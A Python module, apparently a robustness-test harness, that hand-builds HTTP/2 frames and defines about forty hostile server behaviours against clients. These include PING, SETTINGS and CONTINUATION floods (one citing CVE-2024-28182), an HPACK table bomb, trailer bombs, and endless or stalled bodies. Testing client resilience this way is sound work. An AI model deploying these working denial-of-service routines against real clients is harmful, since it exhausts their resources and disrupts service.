"""Attacks by the frames of HTTP/2 (RFC 9113), written by hand."""

from __future__ import annotations

import struct
import time

from servers.http1 import EVENT
from servers.peer import MARKS, REQUESTS, Peer, attack

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, ALTSVC = 5, 6, 7, 8, 9, 10
UNKNOWN = 0xBB
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITIZED = 1, 1, 4, 8, 0x20
NO_ERROR, REFUSED_STREAM = 0, 7
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 3, 4
PREFACE_BYTES, FRAME_HEAD_BYTES = 24, 9
#: The indexed field ":status: 200" (RFC 7541, appendix A).
STATUS_200 = b"\x88"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def setting(identifier: int, value: int) -> bytes:
    return struct.pack(">HI", identifier, value)


def literal(name: bytes, value: bytes) -> bytes:
    """A literal field without indexing, with a new name (RFC 7541 §6.2.2); name and value are
    short."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


class HTTP2:
    """One connection: reads the client's frames, and returns the streams of its requests."""

    def __init__(self, peer: Peer, settings: bytes = b"") -> None:
        self.peer = peer
        #: How much may be sent: on the connection, and on the flooded stream.
        self.windows = [65535, 65535]
        peer.read(PREFACE_BYTES)
        peer.send(frame(SETTINGS, 0, 0, settings))

    def _next(self) -> tuple[int, int, int]:
        """The type, flags and stream of the next frame; records window updates."""
        head = self.peer.read(FRAME_HEAD_BYTES)
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
        payload = self.peer.read(int.from_bytes(head[:3], "big"))
        if kind == SETTINGS and not flags & ACK:
            for identifier, value in struct.iter_unpack(">HI", payload):
                if identifier == INITIAL_WINDOW_SIZE:
                    self.windows[1] += value - 65535
            self.peer.send(frame(SETTINGS, ACK, 0))
        if kind == WINDOW_UPDATE:
            self.windows[stream > 0] += int.from_bytes(payload, "big")
        return kind, flags, stream

    def request(self) -> int:
        """The stream of the next complete request."""
        while True:
            kind, flags, stream = self._next()
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                self.peer.server.count(REQUESTS)
                return stream

    def flood_data(self, stream: int, data: bytes) -> None:
        """Sends `data` again and again, within the client's windows."""
        while True:
            while min(self.windows) < len(data):
                self._next()
            self.windows = [window - len(data) for window in self.windows]
            self.peer.send(frame(DATA, 0, stream, data))

    def head(self, stream: int, fields: bytes = b"", flags: int = END_HEADERS) -> bytes:
        kind = b"text/event-stream" if self.peer.transport == "events" else b"text/plain"
        return frame(HEADERS, flags, stream, STATUS_200 + literal(b"content-type", kind) + fields)

    def respond(self, stream: int, body: bytes = EVENT) -> None:
        self.peer.send(self.head(stream) + frame(DATA, END_STREAM, stream, body))


def flood_after_head(peer: Peer, unit: bytes) -> None:
    """Answers a request with a head and an event, then with `unit` endlessly."""
    http2 = HTTP2(peer)
    stream = http2.request()
    assert stream == 1
    peer.send(http2.head(stream) + frame(DATA, 0, stream, EVENT))
    peer.flood(unit)


@attack
def h2_empty_data(peer: Peer) -> None:
    flood_after_head(peer, frame(DATA, 0, 1))


@attack
def h2_padding(peer: Peer) -> None:
    flood_after_head(peer, frame(DATA, PADDED, 1, b"\0"))


@attack
def h2_padding_full(peer: Peer) -> None:
    flood_after_head(peer, frame(DATA, PADDED, 1, b"\xff" + bytes(255)))


@attack
def h2_small_data(peer: Peer) -> None:
    flood_after_head(peer, frame(DATA, 0, 1, b":"))


@attack
def h2_window_update(peer: Peer) -> None:
    """Each increment is 1: 2^31 of them would be an error."""
    flood_after_head(peer, frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))


@attack
def h2_window_update_connection(peer: Peer) -> None:
    flood_after_head(peer, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack
def h2_altsvc(peer: Peer) -> None:
    """RFC 7838 §4."""
    flood_after_head(peer, frame(ALTSVC, 0, 0, b"\x00\x01a" + b'h2=":1"'))


@attack
def h2_ping(peer: Peer) -> None:
    flood_after_head(peer, frame(PING, 0, 0, bytes(8)))


@attack
def h2_ping_read(peer: Peer) -> None:
    """Like h2-ping, but the server reads each answer."""
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream) + frame(DATA, 0, stream, EVENT))
    peer.drain()
    peer.flood(frame(PING, 0, 0, bytes(8)))


@attack
def h2_ping_ack(peer: Peer) -> None:
    """Answers to pings that were never sent."""
    flood_after_head(peer, frame(PING, ACK, 0, bytes(8)))


@attack
def h2_settings(peer: Peer) -> None:
    flood_after_head(peer, frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535)))


@attack
def h2_settings_read(peer: Peer) -> None:
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream) + frame(DATA, 0, stream, EVENT))
    peer.drain()
    peer.flood(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535) * 30))


@attack
def h2_priority(peer: Peer) -> None:
    flood_after_head(peer, frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 16)))


@attack
def h2_unknown(peer: Peer) -> None:
    flood_after_head(peer, frame(UNKNOWN, 0, 0))


@attack
def h2_unknown_large(peer: Peer) -> None:
    flood_after_head(peer, frame(UNKNOWN, 0, 1, bytes(16384)))


@attack
def h2_reset_others(peer: Peer) -> None:
    """RST_STREAM for a stream that is already closed."""
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    peer.flood(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


@attack
def h2_goaway(peer: Peer) -> None:
    flood_after_head(peer, frame(GOAWAY, 0, 0, struct.pack(">II", 1, NO_ERROR)))


@attack
def h2_goaway_text(peer: Peer) -> None:
    """With debug data of 16 KiB each."""
    text = b"x" * 16000
    flood_after_head(peer, frame(GOAWAY, 0, 0, struct.pack(">II", 1, NO_ERROR) + text))


@attack
def h2_push(peer: Peer) -> None:
    """PUSH_PROMISE, although the client has disabled it."""
    flood_after_head(peer, frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + STATUS_200))


@attack
def h2_trailers(peer: Peer) -> None:
    """Endless trailers, without the end of the stream."""
    flood_after_head(peer, frame(HEADERS, END_HEADERS, 1, literal(b"a", b"b")))


@attack
def h2_trailer_bomb(peer: Peer) -> None:
    """Trailers that end the stream and are as large as frames allow."""
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream) + frame(DATA, 0, stream, EVENT))
    fields = literal(b"a", b"b" * 100) * 150
    peer.send(frame(HEADERS, END_STREAM, stream, fields))
    peer.flood(frame(CONTINUATION, 0, stream, fields))


@attack
def h2_interim(peer: Peer) -> None:
    http2 = HTTP2(peer)
    stream = http2.request()
    # ":status: 103" is a literal with the name of index 8.
    peer.flood(frame(HEADERS, END_HEADERS, stream, b"\x08\x03103" + literal(b"link", b"</a>")))


@attack
def h2_continuation(peer: Peer) -> None:
    """Empty CONTINUATION frames (CVE-2024-28182 and its relatives)."""
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream, flags=0))
    peer.flood(frame(CONTINUATION, 0, stream))


@attack
def h2_continuation_fields(peer: Peer) -> None:
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream, flags=0))
    peer.flood(frame(CONTINUATION, 0, stream, literal(b"a", b"b" * 100) * 100))


@attack
def h2_hpack_bomb(peer: Peer) -> None:
    """One field of 3,900 bytes in the dynamic table, and 16,000 references of a byte each."""
    http2 = HTTP2(peer)
    stream = http2.request()
    value = b"v" * 3900
    # With indexing (§6.2.1); the length has a prefix of seven bits (§5.1).
    length = len(value) - 127
    indexed = b"\x40\x01a\x7f" + bytes([length & 127 | 128, length >> 7]) + value
    peer.send(frame(HEADERS, 0, stream, STATUS_200 + indexed))
    # The first entry of the dynamic table has index 62.
    peer.send(frame(CONTINUATION, 0, stream, b"\xbe" * 16000))
    peer.flood(frame(CONTINUATION, 0, stream, b"\xbe" * 16000))


@attack
def h2_table_updates(peer: Peer) -> None:
    """Fields that evict one another from the dynamic table."""
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(frame(HEADERS, 0, stream, STATUS_200))
    peer.flood(frame(CONTINUATION, 0, stream, b"\x40\x01a\x01b" * 3000))


@attack
def h2_ping_before_head(peer: Peer) -> None:
    HTTP2(peer).request()
    peer.flood(frame(PING, ACK, 0, bytes(8)))


@attack
def h2_window_before_head(peer: Peer) -> None:
    HTTP2(peer).request()
    peer.flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack
def h2_flood_before_settings(peer: Peer) -> None:
    """Frames of an unknown type directly after TLS."""
    peer.flood(frame(UNKNOWN, 0, 0))


@attack
def h2_garbage(peer: Peer) -> None:
    HTTP2(peer).request()
    peer.flood(b"HTTP/1.1 200 OK\r\n")


@attack
def h2_no_streams(peer: Peer) -> None:
    """The server allows no streams."""
    http2 = HTTP2(peer, setting(MAX_CONCURRENT_STREAMS, 0))
    http2.request()
    peer.hold()


@attack
def h2_no_window(peer: Peer) -> None:
    """The client can never send a body."""
    http2 = HTTP2(peer, setting(INITIAL_WINDOW_SIZE, 0))
    http2.request()
    peer.hold()


@attack
def h2_silent(peer: Peer) -> None:
    HTTP2(peer).request()
    peer.hold()


@attack
def h2_slow_body(peer: Peer) -> None:
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream))
    while True:
        peer.send(frame(DATA, 0, stream, b":"))
        time.sleep(0.05)


@attack
def h2_endless_body(peer: Peer) -> None:
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream))
    http2.flood_data(stream, b"x" * 16384)


@attack
def h2_refused_streams(peer: Peer) -> None:
    """The client may repeat every request at once (RFC 9113 §8.7)."""
    http2 = HTTP2(peer)
    while True:
        stream = http2.request()
        peer.send(frame(RST_STREAM, 0, stream, struct.pack(">I", REFUSED_STREAM)))


@attack
def h2_goes_away(peer: Peer) -> None:
    """Every connection ends with a GOAWAY that allows repeating the request (§6.8)."""
    http2 = HTTP2(peer)
    http2.request()
    peer.send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, NO_ERROR)))
    peer.finish()


@attack
def h2_cut_body(peer: Peer) -> None:
    """The connection ends without END_STREAM."""
    http2 = HTTP2(peer)
    stream = http2.request()
    peer.send(http2.head(stream) + frame(DATA, 0, stream, EVENT))
    peer.finish()


@attack
def h2_answers(peer: Peer) -> None:
    """Answers everything at once."""
    http2 = HTTP2(peer)
    while True:
        http2.respond(http2.request())


@attack
def h2_idle_flood(peer: Peer) -> None:
    """A complete response, then endless frames on the kept connection."""
    http2 = HTTP2(peer)
    http2.respond(http2.request())
    peer.flood(frame(PING, ACK, 0, bytes(8)))


@attack
def h2_six_streams(peer: Peer) -> None:
    """Six responses that never end; the seventh request is answered."""
    http2 = HTTP2(peer)
    for number in range(1, 100):
        stream = http2.request()
        if number <= 6:
            peer.send(http2.head(stream) + frame(DATA, 0, stream, EVENT))
        else:
            http2.respond(stream)
        if number == 6:
            peer.server.count(MARKS)
